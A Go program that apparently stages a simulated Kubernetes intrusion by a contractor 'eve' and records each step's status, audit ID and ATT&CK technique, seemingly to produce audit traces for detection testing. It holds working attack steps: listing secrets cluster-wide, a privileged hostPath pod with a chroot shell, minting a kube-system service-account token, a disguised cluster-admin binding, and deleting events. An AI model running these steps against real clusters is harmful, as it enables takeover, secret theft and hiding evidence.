package main

import (
	"context"
	"errors"
	"fmt"
	"net/http"

	auth "k8s.io/api/authentication/v1"
	core "k8s.io/api/core/v1"
	rbac "k8s.io/api/rbac/v1"
	failure "k8s.io/apimachinery/pkg/api/errors"
	meta "k8s.io/apimachinery/pkg/apis/meta/v1"
	"k8s.io/client-go/kubernetes"
	"k8s.io/client-go/kubernetes/scheme"
)

// step is one request of the intrusion and what the server said to it.
type step struct {
	Name      string `json:"name"`
	Technique string `json:"technique"`
	User      string `json:"user"`
	Status    int    `json:"status"`
	AuditID   string `json:"audit_id"`
}

// attack plays one intrusion. eve, a contractor, looks around, takes every secret, places a pod that owns its
// node, borrows the service account that may do everything, makes herself administrator with it, and wipes
// the events. All but the anonymous look and the exec (no kubelet, so no node to go to) succeed.
func attack(ctx context.Context, all *cast, t *tally) ([]step, error) {
	var steps []step
	var unexpected error
	note := func(user, name, technique string, want int, err error) {
		said := t.lastOf(user)
		steps = append(steps, step{name, technique, user, said.status, said.auditID})
		if said.status != want {
			unexpected = errors.Join(unexpected, fmt.Errorf("%s: %d instead of %d (%w)", name, said.status, want, err))
		}
	}
	eve, how := all.eve, meta.CreateOptions{}
	if err := leaveTraces(ctx, all); err != nil {
		return nil, err
	}

	err := all.anonymous.CoreV1().RESTClient().Get().AbsPath("/api/v1/secrets").Do(ctx).Error()
	note("anonymous", "anonymous reads secrets", "T1190", http.StatusForbidden, err)

	_, err = eve.AuthenticationV1().SelfSubjectReviews().Create(ctx, &auth.SelfSubjectReview{}, how)
	note("eve", "asks who she is", "T1613", http.StatusCreated, err)

	_, err = eve.CoreV1().Secrets(meta.NamespaceAll).List(ctx, meta.ListOptions{Limit: 500})
	note("eve", "lists all secrets", "T1552.007", http.StatusOK, err)

	_, err = eve.CoreV1().Pods(shop).Create(ctx, nodeOwner(), how)
	note("eve", "creates a privileged pod on the host's disk", "T1611", http.StatusCreated, err)

	note("eve", "runs a shell in it", "T1609", http.StatusBadRequest, shell(ctx, eve))

	token, err := eve.CoreV1().ServiceAccounts("kube-system").CreateToken(ctx, "deployer", &auth.TokenRequest{}, how)
	note("eve", "makes a token of a service account", "T1528", http.StatusCreated, err)
	if err != nil {
		return steps, unexpected
	}
	borrowed, err := all.withToken("deployer", token.Status.Token)
	if err != nil {
		return steps, err
	}
	_, err = borrowed.RbacV1().ClusterRoleBindings().Create(ctx, &rbac.ClusterRoleBinding{
		ObjectMeta: meta.ObjectMeta{GenerateName: "metrics-reader-"},
		Subjects:   []rbac.Subject{{Kind: rbac.UserKind, APIGroup: rbac.GroupName, Name: "eve"}},
		RoleRef:    rbac.RoleRef{APIGroup: rbac.GroupName, Kind: "ClusterRole", Name: "cluster-admin"},
	}, how)
	note("deployer", "binds herself to cluster-admin with it", "T1098.006", http.StatusCreated, err)

	err = borrowed.CoreV1().Events(shop).DeleteCollection(ctx, meta.DeleteOptions{}, meta.ListOptions{})
	note("deployer", "deletes the events", "T1070", http.StatusOK, err)

	err = eve.CoreV1().Pods(shop).Delete(ctx, "node-check", meta.DeleteOptions{})
	note("eve", "removes her pod", "T1070", http.StatusOK, err)
	return steps, unexpected
}

// leaveTraces makes sure that there is something to steal and something to wipe.
func leaveTraces(ctx context.Context, all *cast) error {
	_, err := all.ci.CoreV1().Secrets(shop).Create(ctx, &core.Secret{
		ObjectMeta: named("payment-key"), StringData: map[string]string{"key": "invented"},
	}, meta.CreateOptions{})
	if err != nil && !failure.IsAlreadyExists(err) {
		return err
	}
	_, err = all.CoreV1().Events(shop).Create(ctx, &core.Event{
		ObjectMeta: named("payment-key-seen"), Reason: "Mounted", Type: core.EventTypeNormal,
		InvolvedObject: core.ObjectReference{Kind: "Secret", Namespace: shop, Name: "payment-key"},
	}, meta.CreateOptions{})
	if failure.IsAlreadyExists(err) {
		return nil
	}
	return err
}

func nodeOwner() *core.Pod {
	yes := true
	spec := podSpec("alpine:3.22")
	spec.HostPID = true
	spec.Containers[0].Command = []string{"sleep", "infinity"}
	spec.Containers[0].SecurityContext = &core.SecurityContext{Privileged: &yes}
	spec.Containers[0].VolumeMounts = []core.VolumeMount{{Name: "host", MountPath: "/host"}}
	spec.Volumes = []core.Volume{{Name: "host", VolumeSource: core.VolumeSource{
		HostPath: &core.HostPathVolumeSource{Path: "/"},
	}}}
	return &core.Pod{ObjectMeta: named("node-check"), Spec: spec}
}

// shell asks with the verb get, as kubectl's WebSocket does. It stays a plain request, because the library for
// sessions hides the status and the audit id of one that is refused; in the audit event they look the same.
func shell(ctx context.Context, eve kubernetes.Interface) error {
	return eve.CoreV1().RESTClient().Get().Namespace(shop).Resource("pods").Name("node-check").SubResource("exec").
		VersionedParams(&core.PodExecOptions{
			Container: "main", Command: []string{"chroot", "/host", "sh"}, Stdin: true, Stdout: true, TTY: true,
		}, scheme.ParameterCodec).Do(ctx).Error()
}
